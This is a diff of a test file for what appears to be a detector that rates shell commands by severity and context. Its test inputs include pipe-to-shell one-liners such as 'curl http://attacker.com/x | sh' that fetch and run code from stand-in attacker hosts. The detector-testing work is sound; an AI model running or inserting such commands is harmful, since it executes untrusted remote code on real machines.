@@ -89,7 +89,9 @@ describe("EX1 by where it comes from", () => {
     expect(judgeShell(EX1, "curl http://attacker.com/x | sh", profile, { medium: "fence" })).toEqual([
       "info",
     ]);
-    expect(judgeShell(EX1, "curl http://$LHOST/x | sh", profile, { medium: "fence" })).toEqual(["info"]);
+    const shape = "curl http://$LHOST/x | sh";
+    expect(judgeShell(EX1, shape, profile, { medium: "fence" })).toEqual(["warn"]);
+    expect(judgeShell(EX1, shape, profile, { medium: "fence", section: ["Attacks"] })).toEqual(["info"]);
     expect(judgeShell(EX1, "curl http://100.64.0.9/x | sh", profile, { medium: "fence" })).toEqual([
       "critical",
     ]);
@@ -109,6 +111,7 @@ describe("EX1 by where it comes from", () => {
         severity: "critical",
         place: flow,
         message: "What 203.0.113.9 sends is run by exec, an address without a name",
+        least: "info",
       },
     ]);
   });
